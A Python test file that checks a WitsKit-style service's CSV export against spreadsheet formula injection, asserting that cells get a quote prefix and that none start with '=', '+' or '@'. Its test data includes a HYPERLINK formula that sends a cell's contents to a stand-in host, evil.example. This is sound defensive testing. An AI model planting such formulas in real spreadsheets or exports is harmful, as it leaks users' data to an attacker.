"""The API's CSV export: WitsKit's one layout, and no formula a spreadsheet would run."""

from __future__ import annotations

import csv
import io

from service_helpers import Running

from witskit.protocol import DecodedFrame, iter_decode

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


async def test_csv_export_neutralises_formulas_in_text_items(svc: Running) -> None:
    data = f"&&\r\n0101{EVIL}\r\n0105260101\r\n0106060000\r\n01083650.5\r\n!!\r\n".encode()
    frames = [f for f in iter_decode(data, source="@rig-7") if isinstance(f, DecodedFrame)]
    await svc.service.store.write(frames)
    response = await svc.client.get(
        "/api/v1/data", params={"source": "@rig-7", "format": "csv"}, headers=svc.auth("viewer")
    )
    assert response.status_code == 200, response.text
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert list(rows[0]) == ["time", "source", "code", "mnemonic", "value", "text", "unit"]
    by_code = {r["code"]: r for r in rows}
    assert by_code["0101"]["text"] == "'" + EVIL
    assert by_code["0101"]["source"] == "'@rig-7"
    assert (by_code["0108"]["value"], by_code["0108"]["unit"]) == ("3650.5", "F")
    cells = [cell for row in rows for cell in row.values()]
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
